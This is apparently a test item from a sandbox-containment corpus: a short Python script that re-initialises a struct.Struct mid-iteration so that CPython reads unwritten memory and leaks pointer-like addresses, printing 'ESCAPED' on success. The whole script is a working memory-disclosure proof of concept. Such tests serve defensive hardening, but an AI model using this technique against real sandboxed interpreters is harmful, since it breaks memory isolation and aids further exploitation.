# id: struct-iter-reinit
# class: info
# expect: contained
# technique: unwritten memory and addresses: Struct.__init__ with a larger format between iter_unpack() and next(); CPython only asserts that the item still fits
# source: own
# verified: no
import struct
s = struct.Struct('8s')
it = s.iter_unpack(bytes(64)); next(it)
s.__init__('60000Q')
r = next(it)
a = sorted({w for w in r if 0x550000000000 <= w < 0x800000000000})
print(len(r), len(a), [hex(w) for w in a[:4]], [hex(w) for w in a[-4:]])
if a: print('ESCAPED:struct-iter-reinit addresses from behind the buffer')
